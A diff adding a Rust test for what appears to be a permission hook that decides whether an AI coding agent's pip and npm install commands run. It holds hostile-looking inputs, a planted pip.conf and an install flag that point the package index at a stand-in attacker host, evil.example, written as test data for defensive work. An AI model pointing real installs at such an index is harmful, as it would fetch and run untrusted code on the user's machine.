@@ -202,6 +202,37 @@ fn what_is_not_there_inside_is_asked_about() {
 }
 
 #[test]
+fn a_declared_install_reaches_the_registry_that_the_user_chose_and_nothing_else() {
+    let scene = Scene::new();
+    scene.sandbox.write_project("requirements.txt", "six\n");
+    // What the project names does not count.
+    scene.sandbox.write_project("pip.conf", "[global]\nindex-url = https://evil.example/simple\n");
+    let ask = |command: &str, variables: &[(&str, &str)]| {
+        let mut event = scene.claude("PreToolUse", command, &json!({"command": command}));
+        event["permission_mode"] = json!("dontAsk");
+        let ran = scene.hook_with("claude", &event, variables);
+        serde_json::from_str::<Value>(&ran.stdout).unwrap()["hookSpecificOutput"]["permissionDecision"]
+            .clone()
+    };
+    let install = "pip install -r requirements.txt";
+    assert_eq!(ask(install, &[]), "deny");
+    assert_eq!(ask(install, &[("PIP_INDEX_URL", "https://me:secret@pip.example/simple")]), "deny");
+    let chosen = [("PIP_INDEX_URL", "https://pip.example/simple"), ("GOPROXY", "https://go.example")];
+    assert_eq!(ask(install, &chosen), "allow");
+    let calls = scene.sandbox.home.join(".local/state/portcullis/calls");
+    let [record] = &fs::read_dir(calls).unwrap().map(|entry| entry.unwrap().path()).collect::<Vec<_>>()[..]
+    else {
+        panic!("not one record");
+    };
+    let record: Value = serde_json::from_slice(&fs::read(record).unwrap()).unwrap();
+    assert_eq!(record["policy"]["network"], json!({"Hosts": ["pip.example:443"]}));
+    assert_eq!(record["policy"]["environment"], json!(["PIP_INDEX_URL"]));
+    for command in ["pip install six", "npm ci", "pip install -r requirements.txt -i https://evil.example/"] {
+        assert_eq!(ask(command, &chosen), "deny", "{command}");
+    }
+}
+
+#[test]
 fn a_trial_leaves_no_run_behind() {
     let scene = Scene::new();
     scene.contained("t1", "frobnicate --all");
